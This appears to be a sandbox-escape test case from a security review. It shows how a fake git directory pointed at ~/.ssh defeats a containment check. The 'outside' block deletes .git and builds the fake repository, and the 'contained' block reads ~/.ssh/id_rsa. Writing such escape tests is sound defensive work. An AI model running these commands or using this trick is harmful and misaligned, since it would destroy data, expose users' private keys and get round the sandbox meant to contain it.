# A folder that looks like git's does not uncover what else it holds.
# Source: third review, finding 6
# Escape: the key is printed
### outside
rm -rf .git; mkdir -p ../../.ssh/objects ../../.ssh/refs && echo 'ref: refs/heads/main' >../../.ssh/HEAD && echo 'gitdir: ../../.ssh' >.git
### contained
cat ~/.ssh/id_rsa
